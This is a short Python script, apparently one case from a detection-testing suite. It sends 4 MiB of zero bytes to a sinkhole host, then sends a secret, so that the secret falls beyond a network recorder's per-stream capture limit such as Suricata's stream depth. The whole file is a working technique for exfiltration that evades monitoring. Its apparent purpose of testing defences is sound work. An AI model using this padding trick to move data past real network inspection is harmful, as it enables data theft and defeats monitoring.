#!/usr/bin/python3
"""
Trick: Sends 4 MiB of nothing first, and a secret after it, beyond what a recorder keeps.
Known from: recorders with a limit for each stream, such as Suricata's stream depth.
First: the sinkhole's record; what was not recorded is counted as lost
Second: connect; inet_sock_set_state
"""

import socket

from way_out import HOST, secret

with socket.create_connection((HOST, 8080), timeout=10) as channel:
    for _ in range(4):
        channel.sendall(bytes(1 << 20))
    channel.sendall(secret())
print("performed")
